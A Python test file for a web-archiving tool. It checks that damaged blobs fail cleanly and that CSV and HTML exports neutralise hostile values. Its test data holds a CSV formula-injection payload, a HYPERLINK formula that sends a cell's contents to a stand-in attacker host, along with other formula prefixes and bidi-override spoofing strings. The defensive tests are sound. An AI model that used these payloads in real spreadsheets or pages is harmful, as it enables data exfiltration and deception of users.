"""The report and the exports against a damaged archive and hostile values: a missing or
corrupt blob is named and leaves no half-written output (and an earlier one as it was); CSV
cells never begin as a formula; the report's text from elsewhere has no control characters and
sits in its own <bdi>. No browser."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import logging
import re
from dataclasses import dataclass
from pathlib import Path

import lxml.html
import pytest
from archive_support import ARTICLE_URL, Made, make_archive
from click.testing import CliRunner

from archiver.cli import cli
from archiver.errors import ArchiverError, BlobCorrupt, BlobMissing
from archiver.outputs.atomic import new_file, new_folder
from archiver.outputs.export import csv_cell, gather
from archiver.outputs.report import add_reports, report_dir, write_report
from archiver.outputs.wacz import write_wacz
from storage import Store

# Damaged blobs.


def blob_of(home: Path, made: Made, kind: str) -> tuple[str, str]:
    """The SHA-256 of a blob of `kind` the archive made by make_archive holds, and whose it is."""
    with Store.open(home, create=False) as store:
        if kind == "html":
            article = store.get_article(made.article)
            assert article is not None and article["html_sha256"]
            return article["html_sha256"], f"the HTML of article {made.article}"
        (capture,) = store.captures_for_post(made.gone)
        (sha,) = [a["sha256"] for a in store.artifacts_for_capture(capture["id"]) if a["kind"] == kind]
        for post in (made.live, made.gone):  # a blob both posts kept is named as the first's
            (capture,) = store.captures_for_post(post)
            if sha in {a["sha256"] for a in store.artifacts_for_capture(capture["id"])}:
                return sha, f"the {kind} of post {post} (twitter) in article 1, capture {capture['id']}"
    raise AssertionError(kind)


def damage(home: Path, sha: str, how: str) -> None:
    with Store.open(home, create=False) as store:
        path = store.blobs.path(sha)
    size = path.stat().st_size
    path.unlink()  # (not written in place: an earlier report's hard link keeps the blob's bytes)
    if how == "corrupt":  # the same size, other bytes: only its hash tells
        path.write_bytes(b"\x00" * size)


def cli_run(*args: str) -> tuple[int, str]:
    result = CliRunner().invoke(cli, list(args))
    return result.exit_code, result.output


def only_one_line_naming(output: str, sha: str, what: str, how: str) -> None:
    assert "Traceback" not in output and len(output.strip().splitlines()) == 1, output
    said = "is missing from the archive" if how == "missing" else "is damaged"
    assert output.startswith(f"Error: {what}: blob {sha} {said}"), output


KINDS = ("html", "screenshot", "warc", "media", "dom")


# How each output is written to `out`, from the command line.
COMMANDS = {
    "wacz": lambda home, out: ["export", "--home", str(home), "1", "--wacz", str(out)],
    "report": lambda home, out: ["report", "--home", str(home), "1", "-o", str(out)],
}


def contents(out: Path) -> dict[str, bytes]:
    """A file's bytes, or each file's of a folder by its relative path."""
    if out.is_file():
        return {".": out.read_bytes()}
    return {p.relative_to(out).as_posix(): p.read_bytes() for p in out.rglob("*") if p.is_file()}


@pytest.mark.parametrize("output", sorted(COMMANDS))
@pytest.mark.parametrize("how", ["missing", "corrupt"])
@pytest.mark.parametrize("kind", KINDS)
def test_a_damaged_blob_fails_the_output_by_name_and_leaves_the_earlier_one(
    home: Path, tmp_path: Path, output: str, kind: str, how: str
) -> None:
    made = make_archive(home)
    out = tmp_path / "outputs" / "story"
    code, said = cli_run(*COMMANDS[output](home, out))
    assert code == 0, said
    earlier = contents(out)
    sha, what = blob_of(home, made, kind)
    with Store.open(home, create=False) as store:
        store.record_check(made.live, method="data", outcome="deleted")  # the output would change
    damage(home, sha, how)

    code, said = cli_run(*COMMANDS[output](home, out))
    assert code == 1
    only_one_line_naming(said, sha, what, how)
    assert contents(out) == earlier  # untouched
    assert [p.name for p in out.parent.iterdir()] == ["story"]  # no temp file or folder left
    fresh = tmp_path / "fresh"
    assert cli_run(*COMMANDS[output](home, fresh))[0] == 1
    assert not fresh.exists()


def test_the_errors_are_archiver_errors_with_the_blob_and_whose_it_is(home: Path, tmp_path: Path) -> None:
    made = make_archive(home)
    sha, what = blob_of(home, made, "warc")
    damage(home, sha, "corrupt")
    with Store.open(home, create=False) as store:
        with pytest.raises(BlobCorrupt) as corrupt:
            write_wacz([gather(store, 1)], tmp_path / "a.wacz", blob_path=store.blobs.path)
        assert (corrupt.value.sha256, corrupt.value.what) == (sha, what)
        assert isinstance(corrupt.value, ArchiverError)
        store.blobs.path(sha).unlink()
        with pytest.raises(BlobMissing) as missing:
            write_report(store, 1, tmp_path / "r")
        assert (missing.value.sha256, missing.value.what) == (sha, what)
    assert sorted(p.name for p in tmp_path.iterdir()) == ["archive"]


@dataclass
class Result:
    article_row: int | None
    report: str | None = None


def test_add_reports_logs_a_damaged_blob_and_leaves_no_half_folder(
    home: Path, caplog: pytest.LogCaptureFixture
) -> None:
    made = make_archive(home)
    sha, what = blob_of(home, made, "screenshot")
    damage(home, sha, "missing")
    results = [Result(made.article), Result(None)]
    with Store.open(home, create=False) as store, caplog.at_level(logging.WARNING):
        add_reports(store, results, home)
    assert results[0].report is None
    assert f"report of article 1 not written: {what}: blob {sha} is missing" in caplog.text
    reports = report_dir(home, 1).parent
    assert not reports.exists() or list(reports.iterdir()) == []


def test_a_rewritten_report_replaces_the_old_and_leaves_nothing_beside(home: Path) -> None:
    made = make_archive(home)
    with Store.open(home, create=False) as store:
        index = write_report(store, made.article, report_dir(home, 1))
        first = index.read_text()
        store.record_check(made.live, method="data", outcome="deleted")
        assert write_report(store, made.article, report_dir(home, 1)) == index
    assert index.read_text() != first and 'badge-deleted">deleted' in index.read_text()
    assert [p.name for p in index.parent.parent.iterdir()] == ["1"]


def test_new_file_and_new_folder_keep_the_old_one_when_the_block_fails(tmp_path: Path) -> None:
    target = tmp_path / "out.wacz"
    target.write_bytes(b"old")
    with pytest.raises(RuntimeError), new_file(target) as temp:
        temp.write_bytes(b"half")
        raise RuntimeError("stop")
    assert target.read_bytes() == b"old" and [p.name for p in tmp_path.iterdir()] == ["out.wacz"]
    with new_file(target) as temp:
        temp.write_bytes(b"new")
    assert target.read_bytes() == b"new" and [p.name for p in tmp_path.iterdir()] == ["out.wacz"]

    folder = tmp_path / "report"
    (folder / "files").mkdir(parents=True)
    (folder / "index.html").write_text("old")
    with pytest.raises(KeyboardInterrupt), new_folder(folder) as temp:
        (temp / "index.html").write_text("half")
        raise KeyboardInterrupt
    assert (folder / "index.html").read_text() == "old"
    with new_folder(folder) as temp:
        (temp / "index.html").write_text("new")
    assert [p.relative_to(folder).as_posix() for p in folder.rglob("*")] == ["index.html"]
    assert (folder / "index.html").read_text() == "new"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["out.wacz", "report"]
    # Through a symbolic link: the folder it points at is replaced, the link stays.
    link = tmp_path / "link"
    link.symlink_to(folder)
    with new_folder(link) as temp:
        (temp / "index.html").write_text("linked")
    assert link.is_symlink() and (folder / "index.html").read_text() == "linked"


# CSV: no cell begins as a formula.

FORMULAS = {
    "text": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "author_name": "+SUM(1,2)",
    "author_handle": "@attacker",
    "posted_at": "-5",
    "url": "\t=1+1",
}


def test_csv_cells_never_begin_as_a_formula_and_json_keeps_the_values(home: Path, tmp_path: Path) -> None:
    make_archive(home)
    with Store.open(home, create=False) as store:
        post = store.upsert_post(
            "twitter",
            "\r=2+2",
            FORMULAS["url"],
            author_name=FORMULAS["author_name"],
            author_handle=FORMULAS["author_handle"],
            posted_at=FORMULAS["posted_at"],
            text=FORMULAS["text"],
        )
        store.record_embed(1, post, source="blockquote", raw="<blockquote/>", positions=[3], text="-1")
    out = tmp_path / "posts.csv"
    code, said = cli_run("export", "--home", str(home), "1", "--csv", "-o", str(out))
    assert code == 0, said
    raw = out.read_bytes().decode("utf-8")
    # A CR in a cell is quoted like a newline (lines end in CRLF): bare, it would end the row.
    assert '"\'\r=2+2"' in raw
    rows = list(csv.DictReader(io.StringIO(raw, newline="")))
    assert len(rows) == 4
    hostile = next(r for r in rows if r["post_id"] == "'\r=2+2")
    for column, value in FORMULAS.items():
        assert hostile[column] == "'" + value, column
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)
    live = next(r for r in rows if r["post_id"] == "1001")
    assert live["text"] == "Live post text" and live["author_handle"] == "osint"  # the rest as it was
    code, said = cli_run("export", "--home", str(home), "1", "--json")
    (record,) = [r for r in map(json.loads, said.splitlines()) if r["post_id"] == "\r=2+2"]
    assert {column: record[column] for column in FORMULAS} == FORMULAS  # JSON is not a spreadsheet


def test_csv_cell() -> None:
    for value in ("=1", "+1", "-5", "@x", "\tx", "\rx"):
        assert csv_cell(value) == "'" + value
    for value in ("5-", "a=b", " =1", "", "'=1", 3, None):
        assert csv_cell(value) == value


# The report: control characters dropped, text from elsewhere isolated.

RLO, PDF, NUL = "\u202e", "\u202c", "\x00"
BIDI = re.compile("[\u202a-\u202e\u2066-\u2069\u200e\u200f\u061c]")


def test_the_report_drops_controls_and_isolates_text_from_pages_and_platforms(
    home: Path, tmp_path: Path
) -> None:
    make_archive(home)
    with Store.open(home, create=False) as store:
        article = store.record_article(
            ARTICLE_URL + "?x=" + RLO, title=f"Title {RLO}desrever\x07", html=b"<p>hi</p>", http_status=200
        )
        post = store.upsert_post(
            "twitter",
            "2001",
            f"https://twitter.com/{RLO}lave/status/2001",
            author_name=f"Ann {RLO}nnA",  # an unclosed override, meant to flip the handle after it
            author_handle=f"moc.{RLO}live\x1b[31m",
            text=f"before{NUL}after {RLO}flipped{PDF} and\ttab\nnew line\x7f\x85",
        )
        store.record_embed(article, post, source="blockquote", raw="<blockquote/>", text=f"quoted{NUL}{RLO}")
        capture = store.start_capture(post=post, tool_version="test")
        store.finish_capture(capture, "failed", error=f"page said {RLO}rorre{NUL}")
        index = write_report(store, article, tmp_path / "report")
    page = index.read_text(encoding="utf-8")

    # No control character but tab and newline anywhere in the page.
    assert [c for c in page if (ord(c) < 32 and c not in "\t\n") or 0x7F <= ord(c) <= 0x9F] == []
    # The handle and the URLs as text keep none of their bidi controls; names and text keep theirs.
    assert "@<bdi>moc.live[31m</bdi>" in page
    assert f"<strong><bdi>Ann {RLO}nnA</bdi></strong>" in page
    assert f"<bdi>beforeafter {RLO}flipped{PDF} and\ttab\nnew line</bdi>" in page
    assert ">https://twitter.com/lave/status/2001</bdi></a>" in page
    assert f"<bdi>page said {RLO}rorre</bdi>" in page
    assert f"<title>\u2068Title {RLO}desrever\u2069 — archived posts</title>" in page
    # Every bidi control left is inside a <bdi> (or the <title>'s FSI ... PDI).
    tree = lxml.html.document_fromstring(page)
    for element in tree.iter():
        for text, holder in ((element.text, element), (element.tail, element.getparent())):
            if text and BIDI.search(text) and holder is not None and holder.tag != "title":
                chain = [holder, *holder.iterancestors()]
                assert any(e.tag == "bdi" for e in chain), (holder.tag, text)
    css = (index.parent / "report.css").read_text()
    assert "bdi { unicode-bidi: isolate; }" in css
    # The page still checks against its manifest, and the quoted text was isolated too.
    assert f"<bdi>quoted{RLO}</bdi>" in page
    manifest = (index.parent / "hashes.txt").read_text()
    assert f"{hashlib.sha256(index.read_bytes()).hexdigest()}  index.html" in manifest
